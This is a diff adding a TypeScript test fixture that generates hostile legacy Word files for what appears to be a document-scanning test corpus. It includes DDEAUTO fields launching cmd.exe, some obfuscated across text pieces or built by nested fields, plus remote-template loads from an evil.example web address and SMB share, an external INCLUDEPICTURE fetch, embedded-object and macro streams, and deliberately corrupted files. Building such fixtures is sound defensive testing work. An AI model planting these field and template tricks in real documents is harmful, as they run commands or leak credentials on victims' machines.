@@ -1,0 +1,62 @@
+import type { CompoundPart } from "../kit/compound-file.ts";
+import { doc } from "../kit/word.ts";
+import type { HostileFile } from "./hostile-corpus.ts";
+import { named } from "./named-files.ts";
+
+/** Old Word documents that start or fetch something, hide what they do, or are broken. */
+export function hostileOldWord(): HostileFile[] {
+  const dde = " DDEAUTO c:\\\\windows\\\\cmd.exe ";
+  const object = (name: string): CompoundPart => ({ name });
+  const acting: [string, Buffer][] = [
+    ["DDEAUTO", doc({ text: [`\u0013${dde}\u0014x\u0015\r`] })],
+    ["DDE in 8 bits", doc({ text: ["A", "\u0013 dde Excel \u0014x\u0015\r"] })],
+    ["DDEAUTO over pieces", doc({ text: ["\u0013 D", "D", "EAU", "TO c:", "\u0014x\u0015"] })],
+    ["DDEAUTO without an end", doc({ text: [`\u0013${dde}`] })],
+    [
+      "DDEAUTO in a field",
+      doc({ text: [`\u0013 IF 1=1 \u0013${dde}\u0014x\u0015 \u0014x\u0015`] }),
+    ],
+    [
+      "name made by a field",
+      doc({ text: ["\u0013\u0013 QUOTE 68 \u0014D\u0015 c: \u0014x\u0015"] }),
+    ],
+    ["INCLUDEPICTURE", doc({ text: ['\u0013 INCLUDEPICTURE "http://e.example" \u0014\u0015'] })],
+    ["LINK", doc({ text: ["\u0013 LINK Excel.Sheet \u0014\u0015"] })],
+    ["template from elsewhere", doc({ template: "https://evil.example/t.dot" })],
+    ["template from a share", doc({ template: "\\\\evil.example\\share\\t.dot" })],
+    ["object", doc({ more: [{ name: "ObjectPool", isStorage: true, hasChildren: true }] })],
+    ["package", doc({ more: [object("\u0001Ole10Native")] })],
+    ["embedded document", doc({ more: [object("Package")] })],
+    ["object's note", doc({ more: [object("\u0003ObjInfo")] })],
+    ["control", doc({ more: [object("\u0003OCXNAME")] })],
+    ["macros", doc({ more: [{ name: "Macros", isStorage: true, hasChildren: true }] })],
+  ];
+  const hidden: [string, Buffer][] = [
+    ["encrypted", doc({ isEncrypted: true })],
+    ["of Word 95", doc({ version: 0x68 })],
+    ["of overlapping pieces", overlapping()],
+  ];
+  const broken: [string, Buffer][] = [
+    ["cut off", doc().subarray(0, 3000)],
+    ["chain without an end", endless()],
+    ["a second text", doc({ more: [object("WordDocument")] })],
+  ];
+  return [
+    ...named("doc", acting, "active"),
+    ...named("doc", hidden, "uncheckable"),
+    ...named("doc", broken, "corrupted"),
+  ];
+}
+
+/** Twelve thousand pieces of the same eight hundred characters. */
+function overlapping(): Buffer {
+  const text = Array.from({ length: 12_000 }, () => "x".repeat(800));
+  return doc({ text, isOverlapping: true });
+}
+
+/** A table of sectors whose directory leads to itself. */
+function endless(): Buffer {
+  const bytes = Buffer.from(doc());
+  bytes.writeUInt32LE(1, 512 + 4);
+  return bytes;
+}
